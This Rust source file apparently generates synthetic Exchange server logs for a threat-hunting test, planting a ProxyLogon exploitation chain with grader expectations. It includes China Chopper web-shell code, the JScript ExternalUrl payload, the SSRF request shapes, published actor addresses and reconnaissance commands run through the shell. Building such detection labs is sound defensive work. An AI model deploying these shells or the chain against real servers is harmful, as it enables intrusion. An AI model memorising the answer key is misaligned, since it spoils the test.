//! The planted half: internet scanners probing CVE-2021-26855, the ProxyLogon chain from a published actor
//! address, the web shells it wrote and their use, each trace with what a correct hunt must report.
//!
//! Shapes follow the public record (hunt-anchors §2.1-2.7): the SSRF through `X-BEResource` logged as
//! `ServerInfo~<junk>]@<back end>:444/<path>?#` with `/ecp/<1-3 chars>.js` as the front-end path, the
//! `Set-OabVirtualDirectory` ExternalUrl carrying a JScript page, the reset that exports it to a web folder, the OAB
//! generator's failed download outside `ClientAccess\OAB`, then China Chopper traffic from the actor.

use exhunt_model::{FindingKind, Severity};

use super::Scenario;
use super::clock::{DAY, HOUR, MINUTE, SECOND, ts};
use super::event::{Ecp, Event, Expect, Http, Oab, Proto};
use super::traffic::ecp_event;
use super::world::{DISCLOSURE, DOMAIN, NETBIOS, WINDOW_END, World};
use crate::rng::Rng;

/// The server's public address as internet-wide scanners address it (documentation range).
pub const PUBLIC_IP: &str = "203.0.113.25";

/// Attacker addresses published by Volexity (Operation Exchange Marauder, 2021-03-02), in their indicator file.
pub const ACTOR_IPS: [&str; 13] = [
    "103.77.192.219",
    "104.140.114.110",
    "104.250.191.110",
    "108.61.246.56",
    "149.28.14.163",
    "157.230.221.198",
    "167.99.168.251",
    "185.250.151.72",
    "192.81.208.169",
    "203.160.69.66",
    "211.56.98.146",
    "5.254.43.18",
    "80.92.205.81",
];

/// User agents Volexity saw on the SSRF requests to `/ecp/` (as the HttpProxy log writes them, with spaces).
const CHAIN_UAS: [&str; 3] = ["python-requests/2.25.1", "python-requests/2.19.1", "ExchangeServicesClient/0.0.0.0"];
/// User agents Volexity saw on web-shell requests.
const SHELL_UAS: [&str; 3] = [
    "antSword/v2.1",
    "Googlebot/2.1 (+http://www.googlebot.com/bot.html)",
    "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
];
/// Scanners looking for the vulnerability (not actor indicators).
const PROBE_UAS: [&str; 4] = [
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:86.0) Gecko/20100101 Firefox/86.0",
    "curl/7.68.0",
    "Go-http-client/1.1",
];

/// Names seen in the wild (MSTIC, Huntress, ESET lists) for shells under `aspnet_client`.
const ASPNET_NAMES: [&str; 12] = [
    "discover.aspx",
    "supp0rt.aspx",
    "OutlookEN.aspx",
    "errorcheck.aspx",
    "aspnet_iisstart.aspx",
    "aspnet_www.aspx",
    "HttpProxy.aspx",
    "shell.aspx",
    "xx.aspx",
    "iispage.aspx",
    "session.aspx",
    "default1.aspx",
];
/// … and under `FrontEnd\HttpProxy\owa\auth`.
const OWA_AUTH_NAMES: [&str; 9] = [
    "errorEE.aspx",
    "errorEEE.aspx",
    "errorEW.aspx",
    "one.aspx",
    "logg.aspx",
    "shel90.aspx",
    "authhead.aspx",
    "OutlookZH.aspx",
    "RedirSuiteServerProxy.aspx",
];

/// When the chain happens; fixed before the world so that a mid-window patch comes after it.
#[derive(Clone, Copy, Debug)]
pub struct Times {
    /// First SSRF request of the chain.
    pub t0: i64,
    /// The last planted exploitation step.
    pub end: i64,
}

pub fn times(seed: u64) -> Times {
    let mut rng = Rng::new(seed, 2);
    // Mass exploitation ran from about 26 February until days after the 2 March disclosure.
    let lo = ts(2021, 2, 26, 0, 0, 0);
    let hi = ts(2021, 3, 3, 12, 0, 0);
    let t0 = lo + rng.below(((hi - lo) / SECOND) as u64) as i64 * SECOND + rng.below(1000) as i64;
    Times { t0, end: t0 + 40 * MINUTE }
}

/// A web folder a shell is written to.
#[derive(Clone, Debug)]
pub enum Loc {
    AspnetClient(String),
    SystemWeb(String),
    OwaAuth(String),
}

impl Loc {
    /// Path in the triage folder.
    pub fn rel(&self) -> String {
        match self {
            Loc::AspnetClient(n) => format!("C/inetpub/wwwroot/aspnet_client/{n}"),
            Loc::SystemWeb(n) => format!("C/inetpub/wwwroot/aspnet_client/system_web/{n}"),
            Loc::OwaAuth(n) => format!("{}/FrontEnd/HttpProxy/owa/auth/{n}", super::files::EXCHANGE),
        }
    }

    /// The path as the attacker wrote it (administrative share on the loopback address).
    pub fn unc(&self) -> String {
        match self {
            Loc::AspnetClient(n) => format!("\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\{n}"),
            Loc::SystemWeb(n) => format!("\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\system_web\\{n}"),
            Loc::OwaAuth(n) => format!(
                "\\\\127.0.0.1\\c$\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\{n}"
            ),
        }
    }

    /// The URL path that reaches it.
    pub fn url(&self) -> String {
        match self {
            Loc::AspnetClient(n) => format!("/aspnet_client/{n}"),
            Loc::SystemWeb(n) => format!("/aspnet_client/system_web/{n}"),
            Loc::OwaAuth(n) => format!("/owa/auth/{n}"),
        }
    }
}

/// A web shell the chain wrote.
#[derive(Clone, Debug)]
pub struct Shell {
    pub loc: Loc,
    pub family: &'static str,
    pub param: String,
    pub content: Vec<u8>,
    pub written: i64,
    pub on_disk: bool,
}

/// Everything planted for a scenario.
#[derive(Debug, Default)]
pub struct Plan {
    /// Sorted by time.
    pub events: Vec<Event>,
    pub shells: Vec<Shell>,
    pub actor_ips: Vec<String>,
    pub actor_uas: Vec<String>,
    pub scanner_ips: Vec<String>,
}

/// Which actor of a campaign attacks this server: group `0` of `n`..`n-1` of `n`. Each group draws its addresses,
/// shell names and web-shell client from its own share of the public lists, so groups share no trace but the
/// campaign-wide ones (`ExchangeServicesClient/0.0.0.0`, generic tools). `None`: any actor, from the whole lists.
pub type Actor = Option<(u32, u32)>;

/// The share of `list` that `actor` draws from (the whole list without an actor).
fn share<T>(list: &[T], actor: Actor) -> &[T] {
    match actor {
        Some((i, n)) if n > 1 && (n as usize) <= list.len() => {
            let (i, n) = (i.min(n - 1) as usize, n as usize);
            &list[i * list.len() / n..(i + 1) * list.len() / n]
        }
        _ => list,
    }
}

fn pick<'a>(rng: &mut Rng, list: &[&'a str], actor: Actor) -> &'a str {
    let l = share(list, actor);
    l[rng.below(l.len() as u64) as usize]
}

pub fn plan(w: &World, scenario: Scenario, seed: u64, times: Times, actor: Actor) -> Plan {
    let mut rng = Rng::new(seed, 3);
    let mut p = Plan::default();
    if scenario >= Scenario::Probed {
        probes(w, &mut rng, &mut p);
    }
    if scenario >= Scenario::Exploited {
        chain(w, &mut rng, times, scenario, actor, &mut p);
    }
    if scenario >= Scenario::Used {
        shell_use(w, &mut rng, times, actor, &mut p);
    }
    p.events.sort_by_key(Event::time);
    p
}

fn http(rng: &mut Rng, t: i64, proto: Option<Proto>, method: &'static str, stem: &str) -> Http {
    Http {
        t,
        proto,
        method,
        stem: stem.to_string(),
        port: 443,
        status: 200,
        cafe: proto.is_some(),
        request_id: rng.guid(),
        time_taken: rng.range(20, 400) as u32,
        req_bytes: rng.range(300, 2000) as u32,
        resp_bytes: rng.range(200, 6000) as u32,
        ..Http::default()
    }
}

/// Internet-wide scanners checking for CVE-2021-26855 after the disclosure: the Nmap-style `localhost` probe and
/// the autodiscover-only SSRF. They reach no mailbox.
fn probes(w: &World, rng: &mut Rng, p: &mut Plan) {
    let stop = w.patched_at().unwrap_or(WINDOW_END - DAY);
    let start = DISCLOSURE + HOUR;
    let n_ips = rng.range(3, 6);
    for i in 0..n_ips {
        let ip = format!("203.0.113.{}", 30 + i * 17 + rng.below(15));
        p.scanner_ips.push(ip.clone());
        let ua = PROBE_UAS[rng.below(PROBE_UAS.len() as u64) as usize];
        for _ in 0..rng.range(1, 4) {
            let t = start + rng.below(((stop - start) / SECOND) as u64) as i64 * SECOND + rng.below(1000) as i64;
            if rng.chance(0.5) {
                localhost_probe(rng, t, &ip, ua, p);
            } else {
                autodiscover_probe(w, rng, t, &ip, ua, p);
            }
        }
    }
}

fn localhost_probe(rng: &mut Rng, t: i64, ip: &str, ua: &'static str, p: &mut Plan) {
    let mut h = http(rng, t, Some(Proto::Owa), "GET", "/owa/auth/x.js");
    h.status = 500;
    h.be_status = None;
    h.url_host = PUBLIC_IP.to_string();
    h.client_ip = ip.to_string();
    h.ua = ua;
    h.auth_type = "FBA";
    h.anchor = "ServerInfo~localhost/ecp/default.flt?".to_string();
    h.routing_hint = "X-AnonResource-Backend-Cookie";
    h.target = "localhost".to_string();
    h.plant_proxy = Some(
        Expect::new(
            FindingKind::Exploitation,
            "cve-2021-26855-probe",
            Severity::Medium,
            "ServerInfo~localhost/ecp/default.flt?",
        )
        .note("scanner probe of CVE-2021-26855 (localhost SSRF), no mailbox reached"),
    );
    h.plant_fe = Some(
        Expect::new(FindingKind::Exploitation, "cve-2021-26855-probe", Severity::Low, "GET /owa/auth/x.js")
            .optional()
            .note("front-end line of the scanner probe"),
    );
    p.events.push(Event::Http(Box::new(h)));
}

fn backend(w: &World) -> String {
    format!("{}.{DOMAIN}", w.host)
}

fn autodiscover_probe(w: &World, rng: &mut Rng, t: i64, ip: &str, ua: &'static str, p: &mut Plan) {
    let len = rng.range(1, 3) as usize;
    let js = format!("/ecp/{}.js", rng.word(b"abcdefghijklmnopqrstuvwxyz", len));
    let anchor = format!("ServerInfo~a]@{}:444/autodiscover/autodiscover.xml?#", backend(w));
    let mut h = http(rng, t, Some(Proto::Ecp), "POST", &js);
    h.url_host = PUBLIC_IP.to_string();
    h.client_ip = ip.to_string();
    h.ua = ua;
    h.anchor = anchor.clone();
    h.routing_hint = "X-BEResource-Cookie";
    h.target = backend(w);
    h.be_status = Some(200);
    h.be_stem = Some("/autodiscover/autodiscover.xml".to_string());
    h.be_query = Some(String::new());
    h.be_user = String::new();
    h.plant_proxy = Some(
        Expect::new(FindingKind::Exploitation, "cve-2021-26855-probe", Severity::Medium, anchor)
            .note("scanner's autodiscover-only SSRF: no valid mailbox found"),
    );
    h.plant_fe = Some(
        Expect::new(FindingKind::Exploitation, "cve-2021-26855-probe", Severity::Medium, format!("POST {js}"))
            .note("POST to a static ECP resource (Volexity indicator)"),
    );
    h.plant_be = Some(
        Expect::new(
            FindingKind::Exploitation,
            "cve-2021-26855-probe",
            Severity::Low,
            "POST /autodiscover/autodiscover.xml",
        )
        .optional()
        .note("back-end half of the SSRF"),
    );
    p.events.push(Event::Http(Box::new(h)));
}

fn param_name(rng: &mut Rng) -> String {
    let len = rng.range(2, 5) as usize;
    let mut s = rng.word(b"abcdefghijklmnopqrstuvwxyz", len);
    s.push_str(&rng.range(10, 999_999).to_string());
    s
}

fn canary(rng: &mut Rng) -> String {
    let mut s = rng.word(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_", 76);
    s.push('.');
    s
}

/// The JScript page that CVE-2021-27065 stores in the OAB virtual directory's ExternalUrl.
fn oab_script(param: &str) -> String {
    format!(
        r#"<script language="JScript" runat="server">function Page_Load(){{eval(Request["{param}"],"unsafe");}}</script>"#
    )
}

/// The full ProxyLogon chain from one actor address, then the CVE-2021-26858 write.
fn chain(w: &World, rng: &mut Rng, times: Times, scenario: Scenario, actor: Actor, p: &mut Plan) {
    // A campaign's group comes back from its own first address (its infrastructure); any actor from a random one.
    let ip = match actor {
        Some(_) => share(&ACTOR_IPS, actor)[0].to_string(),
        None => pick(rng, &ACTOR_IPS, actor).to_string(),
    };
    let ua = CHAIN_UAS[rng.below(2) as usize];
    let ua_recon = CHAIN_UAS[2];
    p.actor_ips.push(ip.clone());
    for u in [ua_recon, ua] {
        if !p.actor_uas.iter().any(|x| x == u) {
            p.actor_uas.push(u.to_string());
        }
    }
    let be = backend(w);
    let js = format!("/ecp/{}.js", ["y", "x", "a", "b", "lk", "abc"][rng.below(6) as usize]);
    let param = param_name(rng);
    let vdir_guid = w.oab_vdir_guid.clone();
    let canary = canary(rng);
    let admin_sid = format!("{}-500", w.domain_sid);

    // Where the two shells go: the OAB export (CVE-2021-27065) and the downloaded page (CVE-2021-26858).
    let export_loc = match rng.below(3) {
        0 => Loc::OwaAuth(pick(rng, &OWA_AUTH_NAMES, actor).to_string()),
        _ => Loc::AspnetClient(pick(rng, &ASPNET_NAMES, actor).to_string()),
    };
    let download_loc = loop {
        let l = if rng.chance(0.5) {
            Loc::SystemWeb(format!(
                "{}.aspx",
                rng.word(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789", 8)
            ))
        } else {
            Loc::AspnetClient(pick(rng, &ASPNET_NAMES, actor).to_string())
        };
        if l.rel() != export_loc.rel() {
            break l;
        }
    };

    struct Step {
        dt: i64,
        target: String,
        be_stem: &'static str,
        be_query: String,
        status: u16,
        check: &'static str,
        sev: Severity,
    }
    let steps = [
        Step {
            dt: 0,
            target: "autodiscover/autodiscover.xml?#".to_string(),
            be_stem: "/autodiscover/autodiscover.xml",
            be_query: String::new(),
            status: 200,
            check: "cve-2021-26855-probe",
            sev: Severity::Medium,
        },
        Step {
            dt: 1_537,
            target: "mapi/emsmdb/?#".to_string(),
            be_stem: "/mapi/emsmdb/",
            be_query: String::new(),
            status: 200,
            check: "cve-2021-26855",
            sev: Severity::High,
        },
        Step {
            dt: 4_048,
            target: "ecp/proxyLogon.ecp?#".to_string(),
            be_stem: "/ecp/proxyLogon.ecp",
            be_query: String::new(),
            status: 241,
            check: "cve-2021-26855",
            sev: Severity::High,
        },
        Step {
            dt: 9_381,
            target: format!("ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory#"),
            be_stem: "/ecp/DDI/DDIService.svc/GetObject",
            be_query: format!("msExchEcpCanary={canary}&schema=OABVirtualDirectory"),
            status: 200,
            check: "cve-2021-26855",
            sev: Severity::High,
        },
        Step {
            dt: 11_610,
            target: format!("ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory#"),
            be_stem: "/ecp/DDI/DDIService.svc/SetObject",
            be_query: format!("msExchEcpCanary={canary}&schema=OABVirtualDirectory"),
            status: 200,
            check: "cve-2021-26855",
            sev: Severity::High,
        },
        Step {
            dt: 16_734,
            target: format!(
                "ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={canary}&schema=ResetOABVirtualDirectory#"
            ),
            be_stem: "/ecp/DDI/DDIService.svc/SetObject",
            be_query: format!("msExchEcpCanary={canary}&schema=ResetOABVirtualDirectory"),
            status: 200,
            check: "cve-2021-27065",
            sev: Severity::Critical,
        },
        Step {
            dt: 19_402,
            target: format!("ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory#"),
            be_stem: "/ecp/DDI/DDIService.svc/SetObject",
            be_query: format!("msExchEcpCanary={canary}&schema=OABVirtualDirectory"),
            status: 200,
            check: "cve-2021-26855",
            sev: Severity::High,
        },
    ];
    let t0 = times.t0;
    for (i, s) in steps.iter().enumerate() {
        let t = t0 + s.dt + rng.below(300) as i64;
        let anchor = format!("ServerInfo~a]@{be}:444/{}", s.target);
        let mut h = http(rng, t, Some(Proto::Ecp), "POST", &js);
        h.status = s.status;
        h.be_status = Some(s.status);
        h.be_stem = Some(s.be_stem.to_string());
        h.be_query = Some(s.be_query.clone());
        h.be_user = if i >= 3 { format!("{NETBIOS}\\{}$", w.host) } else { String::new() };
        h.url_host = super::world::MAIL_HOST.to_string();
        h.client_ip = ip.clone();
        h.ua = if i == 0 { ua_recon } else { ua };
        h.anchor = anchor.clone();
        h.routing_hint = "X-BEResource-Cookie";
        h.target = be.to_ascii_lowercase();
        let mut proxy = Expect::new(FindingKind::Exploitation, s.check, s.sev, anchor).with("actor-ip");
        let fe_sev = if s.status == 200 { Severity::High } else { Severity::Medium };
        let mut fe = Expect::new(FindingKind::Exploitation, "cve-2021-26855", fe_sev, format!("POST {js}"))
            .with("actor-ip")
            .note("SSRF request: POST to a static ECP resource from an actor address");
        proxy = proxy.with("actor-user-agent");
        fe = fe.with("actor-user-agent");
        proxy = proxy.note(match i {
            0 => "SSRF to autodiscover: the back-end name and a mailbox are looked up",
            1 => "SSRF to MAPI: the administrator's SID is read",
            2 => "SSRF to proxyLogon.ecp: an ECP session as the administrator",
            3 => "SSRF reading the OAB virtual directory",
            4 => "SSRF setting the OAB virtual directory's ExternalUrl to a script",
            5 => "SSRF resetting the OAB virtual directory: the export writes the web shell",
            _ => "SSRF clearing the ExternalUrl again",
        });
        h.plant_proxy = Some(proxy);
        h.plant_fe = Some(fe);
        let be_exp = if i == 5 {
            Expect::new(FindingKind::Exploitation, "cve-2021-27065", Severity::High, "schema=ResetOABVirtualDirectory")
                .note("back end: SetObject schema=ResetOABVirtualDirectory as the machine account")
        } else {
            Expect::new(FindingKind::Exploitation, s.check, Severity::Low, s.be_stem)
                .optional()
                .note("back-end half of the SSRF")
        };
        h.plant_be = Some(be_exp);
        p.events.push(Event::Http(Box::new(h)));

        // What the ECP back end logs for the steps that run cmdlets.
        let ecp = |t: i64, cmd: String, plant: Option<Expect>, rng: &mut Rng, p: &mut Plan| {
            let data = ecp_event(rng, &admin_sid, &cmd, s.be_stem, &s.be_query);
            p.events.push(Event::Ecp(Ecp { t, event_data: data, plant }));
        };
        let optional = |what: &'static str| {
            Some(
                Expect::new(FindingKind::Exploitation, "cve-2021-27065", Severity::Low, what)
                    .optional()
                    .note("cmdlet run by the chain; no script in it"),
            )
        };
        match i {
            3 => {
                ecp(
                    t - 70,
                    "Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null".into(),
                    optional("Get-OabVirtualDirectory"),
                    rng,
                    p,
                );
                ecp(
                    t - 15,
                    "Pipeline.1|Get-MailboxRegionalConfiguration".into(),
                    optional("Get-MailboxRegionalConfiguration"),
                    rng,
                    p,
                );
            }
            4 => {
                let cmd = format!(
                    "Set-OabVirtualDirectory.ExternalUrl=''http://f/{}''.Identity=''{vdir_guid}''",
                    oab_script(&param)
                );
                let exp = Expect::new(
                    FindingKind::Exploitation,
                    "cve-2021-27065",
                    Severity::Critical,
                    "Set-OabVirtualDirectory.ExternalUrl=''http://f/<script",
                )
                .note("ExternalUrl set to a JScript page (China Chopper)");
                ecp(t - 60, cmd, Some(exp), rng, p);
                ecp(
                    t - 8,
                    format!("Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=''{vdir_guid}''"),
                    optional("Get-OabVirtualDirectory"),
                    rng,
                    p,
                );
            }
            5 => {
                ecp(
                    t - 3_000,
                    format!("Get-OABVirtualDirectory.Identity=''{vdir_guid}''"),
                    optional("Get-OABVirtualDirectory"),
                    rng,
                    p,
                );
                ecp(
                    t - 2_850,
                    format!("Get-ExchangeServer.Identity=''{}''", w.host),
                    optional("Get-ExchangeServer"),
                    rng,
                    p,
                );
                ecp(
                    t - 1_200,
                    format!("Remove-OABVirtualDirectory.Force=$true.Identity=''{}\\OAB (Default Web Site)''", w.host),
                    optional("Remove-OABVirtualDirectory"),
                    rng,
                    p,
                );
                ecp(
                    t + 7_600,
                    format!(
                        "New-OABVirtualDirectory.WebSiteName=''Default Web Site''.Server=''{}''.Role=''ClientAccess''.InternalURL=''https://{}/OAB''.Path=''C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\OAB''",
                        w.host, w.fqdn
                    ),
                    optional("New-OABVirtualDirectory"),
                    rng,
                    p,
                );
            }
            6 => {
                ecp(
                    t - 60,
                    format!("Set-OabVirtualDirectory.ExternalUrl=$null.Identity=''{vdir_guid}''"),
                    optional("ExternalUrl=$null"),
                    rng,
                    p,
                );
            }
            _ => {}
        }
    }

    // The OAB export of the reset is the first shell.
    let written = t0 + steps[5].dt + 600;
    p.shells.push(Shell {
        content: oab_export(w, &param, &vdir_guid, written),
        loc: export_loc,
        family: "oab-export",
        param: param.clone(),
        written,
        on_disk: false,
    });

    // CVE-2021-26858: the OAB generator "downloads" a China Chopper page to a web folder.
    let t = t0 + rng.range(4, 20) as i64 * MINUTE + rng.below(60_000) as i64;
    let param2 = param_name(rng);
    let unc = download_loc.unc();
    p.events.push(Event::Oab(Oab {
        t: t - 2_300,
        message: format!(
            "OABGenerator work cycle started for offline address book '\\Default Offline Address Book' ({}).",
            w.oab_guid
        ),
        plant: None,
    }));
    p.events.push(Event::Oab(Oab {
        t,
        message: format!("Download failed and temporary file '{unc}' needs to be removed."),
        plant: Some(
            Expect::new(FindingKind::Exploitation, "cve-2021-26858", Severity::Critical, unc)
                .note("OAB generator wrote outside ClientAccess\\OAB"),
        ),
    }));
    p.shells.push(Shell {
        content: format!(r#"<%@ Page Language="Jscript"%><%eval(Request.Item["{param2}"],"unsafe");%>"#).into_bytes(),
        loc: download_loc,
        family: "china-chopper",
        param: param2,
        written: t,
        on_disk: false,
    });

    // Which shells survive: none in `exploited` (removed by the actor or by AV), one or both otherwise.
    if scenario >= Scenario::Backdoored {
        match rng.below(3) {
            0 => p.shells[0].on_disk = true,
            1 => p.shells[1].on_disk = true,
            _ => {
                p.shells[0].on_disk = true;
                p.shells[1].on_disk = true;
            }
        }
    }
}

/// The text an OAB virtual directory's configuration export holds: the directory's properties, one per line, with
/// the script in ExternalUrl. Written for the lab (field list modelled on `Get-OabVirtualDirectory | Format-List`).
fn oab_export(w: &World, param: &str, vdir_guid: &str, written: i64) -> Vec<u8> {
    let b = w.build_at(written);
    let c = super::clock::civil(written);
    let (h12, ampm) = match c.hour {
        0 => (12, "AM"),
        1..=11 => (c.hour, "AM"),
        12 => (12, "PM"),
        h => (h - 12, "PM"),
    };
    let when = format!("{}/{}/{} {}:{:02}:{:02} {ampm}", c.month, c.day, c.year, h12, c.minute, c.second);
    let dn_server = format!(
        "CN={},CN=Servers,CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN=Contoso,CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=contoso,DC=example",
        w.host
    );
    let rows: Vec<(&str, String)> = vec![
        ("RunspaceId", vdir_guid.chars().rev().collect()),
        ("PollInterval", "480".into()),
        ("OfflineAddressBooks", String::new()),
        ("RequireSSL", "True".into()),
        ("BasicAuthentication", "False".into()),
        ("WindowsAuthentication", "True".into()),
        ("OAuthAuthentication", "True".into()),
        ("MetabasePath", format!("IIS://{}/W3SVC/1/ROOT/OAB", w.fqdn)),
        ("Path", "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\OAB".into()),
        ("ExtendedProtectionTokenChecking", "None".into()),
        ("ExtendedProtectionFlags", "{}".into()),
        ("ExtendedProtectionSPNList", "{}".into()),
        ("AdminDisplayVersion", b.display_version()),
        ("Server", w.host.clone()),
        ("InternalUrl", format!("https://{}/OAB", w.fqdn)),
        ("InternalAuthenticationMethods", "{WindowsIntegrated, OAuth}".into()),
        ("ExternalUrl", format!("http://f/{}", oab_script(param))),
        ("ExternalAuthenticationMethods", "{WindowsIntegrated, OAuth}".into()),
        ("AdminDisplayName", String::new()),
        ("ExchangeVersion", "0.10 (14.0.100.0)".into()),
        ("Name", "OAB (Default Web Site)".into()),
        ("DistinguishedName", format!("CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,{dn_server}")),
        ("Identity", format!("{}\\OAB (Default Web Site)", w.host)),
        ("Guid", vdir_guid.to_string()),
        ("ObjectCategory", format!("{DOMAIN}/Configuration/Schema/ms-Exch-OAB-Virtual-Directory")),
        ("ObjectClass", "{top, msExchVirtualDirectory, msExchOABVirtualDirectory}".into()),
        ("WhenChanged", when.clone()),
        ("WhenCreated", "12/18/2020 10:12:03 AM".into()),
        ("WhenChangedUTC", when),
        ("WhenCreatedUTC", "12/18/2020 9:12:03 AM".into()),
        ("OrganizationId", String::new()),
        ("Id", format!("{}\\OAB (Default Web Site)", w.host)),
        ("OriginatingServer", format!("DC01.{DOMAIN}")),
        ("IsValid", "True".into()),
        ("ObjectState", "Unchanged".into()),
    ];
    let mut out = String::new();
    out.push_str("\r\n");
    for (k, v) in rows {
        out.push_str(&format!("{k:<32}: {v}\r\n"));
    }
    out.push_str("\r\n");
    out.into_bytes()
}

/// China Chopper use of the shells still on disk: a first check, then sessions of POSTs over the following days,
/// some carrying commands in the query.
fn shell_use(w: &World, rng: &mut Rng, times: Times, actor: Actor, p: &mut Plan) {
    let shells: Vec<Shell> = p.shells.iter().filter(|s| s.on_disk).cloned().collect();
    if shells.is_empty() {
        return;
    }
    let mut ips = vec![p.actor_ips[0].clone()];
    let other = pick(rng, &ACTOR_IPS, actor).to_string();
    if !ips.contains(&other) {
        ips.push(other.clone());
        p.actor_ips.push(other);
    }
    let start = times.end + rng.range(1, 6) as i64 * HOUR;
    let last = WINDOW_END - DAY;
    let sessions = rng.range(3, 8);
    for k in 0..sessions {
        let shell = &shells[rng.below(shells.len() as u64) as usize];
        let ip = &ips[rng.below(ips.len() as u64) as usize];
        let ua = pick(rng, &SHELL_UAS, actor);
        if !p.actor_uas.iter().any(|x| x == ua) {
            p.actor_uas.push(ua.to_string());
        }
        let mut t = if k == 0 { start } else { start + rng.below(((last - start) / SECOND) as u64) as i64 * SECOND };
        let requests = if k == 0 { 1 } else { rng.range(3, 12) };
        for r in 0..requests {
            let command = k > 0 && (r == 0 || rng.chance(0.25));
            let (method, query, status) = if k == 0 {
                ("GET", String::new(), 200)
            } else if command {
                ("GET", chopper_query(rng, &shell.param), 200)
            } else {
                ("POST", String::new(), 200)
            };
            let url = shell.loc.url();
            let owa = matches!(shell.loc, Loc::OwaAuth(_));
            let mut h = http(rng, t, if owa { Some(Proto::Owa) } else { None }, method, &url);
            h.query = query;
            h.status = status;
            h.client_ip = ip.clone();
            h.ua = ua;
            h.url_host = super::world::MAIL_HOST.to_string();
            h.auth_type = if owa { "FBA" } else { "" };
            let mut e =
                Expect::new(FindingKind::Webshell, "webshell-request", Severity::High, format!("{method} {url}"))
                    .with("actor-ip")
                    .with("actor-user-agent")
                    .note(if k == 0 {
                        "the actor checks that the shell answers"
                    } else {
                        "China Chopper request to the shell"
                    });
            if command {
                e = e.with("command-in-query");
            }
            if owa {
                h.plant_proxy = Some(e.clone().note("web-shell request as the OWA front end logs it"));
            }
            h.plant_fe = Some(e);
            p.events.push(Event::Http(Box::new(h)));
            t += rng.range(800, 20_000) as i64;
        }
    }
    let _ = w;
}

/// A query that runs a command through the shell, in the encoded China Chopper shape (`cd /d … & <cmd> & echo
/// [S] & cd & echo [E]`) or as a bare command.
fn chopper_query(rng: &mut Rng, param: &str) -> String {
    const CMDS: [&str; 6] = [
        "whoami",
        "ipconfig+/all",
        "net+group+%22Exchange+Trusted+Subsystem%22+/domain",
        "tasklist",
        "systeminfo",
        "net+user",
    ];
    let cmd = CMDS[rng.below(CMDS.len() as u64) as usize];
    if rng.chance(0.5) {
        format!("{param}=cmd+/c+{cmd}")
    } else {
        format!("{param}=cmd+/c+cd+/d+%22c:\\inetpub\\wwwroot\\aspnet_client\\%22%26{cmd}%26echo+[S]%26cd%26echo+[E]")
    }
}
